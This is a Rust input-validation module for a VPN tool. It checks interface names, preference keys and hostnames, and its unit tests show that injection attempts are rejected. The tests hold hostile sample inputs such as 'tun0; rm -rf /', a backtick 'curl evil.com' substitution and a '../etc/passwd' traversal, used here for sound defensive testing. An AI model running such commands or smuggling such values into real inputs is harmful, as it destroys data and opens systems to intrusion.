//! Input validation and sanitization
//!
//! Names that end up in command lines or file paths are checked here first.

use crate::error::{VpnError, VpnResult};
use std::net::IpAddr;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Maximum length for preference keys
const MAX_PREFERENCE_KEY_LEN: usize = 64;

/// Validate interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes and underscores,
/// and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> VpnResult<()> {
    if name.is_empty() {
        return Err(VpnError::InvalidParameter(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(VpnError::InvalidParameter(
            format!("Interface name too long (max {} characters)", MAX_INTERFACE_NAME_LEN)
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' {
            return Err(VpnError::InvalidParameter(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Don't allow names starting with dash (could be interpreted as option)
    if name.starts_with('-') {
        return Err(VpnError::InvalidParameter(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate a preference key before it is used as a file name
///
/// Keys are lowercase ASCII words joined by underscores, so they can never
/// escape the state directory.
pub fn validate_preference_key(key: &str) -> VpnResult<()> {
    if key.is_empty() || key.len() > MAX_PREFERENCE_KEY_LEN {
        return Err(VpnError::InvalidParameter(
            format!("Preference key must be 1-{} characters", MAX_PREFERENCE_KEY_LEN)
        ));
    }

    if !key.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_') {
        return Err(VpnError::InvalidParameter(
            format!("Invalid preference key '{}'", key)
        ));
    }

    Ok(())
}

/// Validate the host part of an OpenVPN `remote` directive
pub fn validate_hostname(host: &str) -> VpnResult<()> {
    if host.is_empty() {
        return Err(VpnError::InvalidParameter(
            "Hostname cannot be empty".to_string()
        ));
    }

    if host.len() > 253 {
        return Err(VpnError::InvalidParameter(
            "Hostname too long".to_string()
        ));
    }

    if host.parse::<IpAddr>().is_ok() {
        return Ok(());
    }

    for c in host.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '.' {
            return Err(VpnError::InvalidParameter(
                format!("Invalid hostname character: {}", c)
            ));
        }
    }

    if host.starts_with('-') || host.starts_with('.') ||
       host.ends_with('-') || host.ends_with('.') {
        return Err(VpnError::InvalidParameter(
            "Invalid hostname format".to_string()
        ));
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        // Valid names
        assert!(validate_interface_name("tun0").is_ok());
        assert!(validate_interface_name("tap_vpn").is_ok());

        // Invalid names - command injection attempts
        assert!(validate_interface_name("tun0; rm -rf /").is_err());
        assert!(validate_interface_name("tun0`curl evil.com`").is_err());
        assert!(validate_interface_name("tun0|ls").is_err());
        assert!(validate_interface_name("tun0\nmalicious").is_err());

        // Invalid - too long
        assert!(validate_interface_name("verylonginterfacename").is_err());

        // Invalid - starts with dash
        assert!(validate_interface_name("-tun0").is_err());

        // Invalid - empty
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_preference_key_validation() {
        assert!(validate_preference_key("app_settings").is_ok());
        assert!(validate_preference_key("saved_tokens_v2").is_ok());

        assert!(validate_preference_key("").is_err());
        assert!(validate_preference_key("../etc/passwd").is_err());
        assert!(validate_preference_key("App").is_err());
        assert!(validate_preference_key(&"a".repeat(65)).is_err());
    }

    #[test]
    fn test_hostname_validation() {
        assert!(validate_hostname("vpn.example.org").is_ok());
        assert!(validate_hostname("192.0.2.10").is_ok());
        assert!(validate_hostname("2001:db8::1").is_ok());

        assert!(validate_hostname("").is_err());
        assert!(validate_hostname("-invalid").is_err());
        assert!(validate_hostname("invalid.").is_err());
        assert!(validate_hostname("host name").is_err());
        assert!(validate_hostname("host;name").is_err());
    }
}
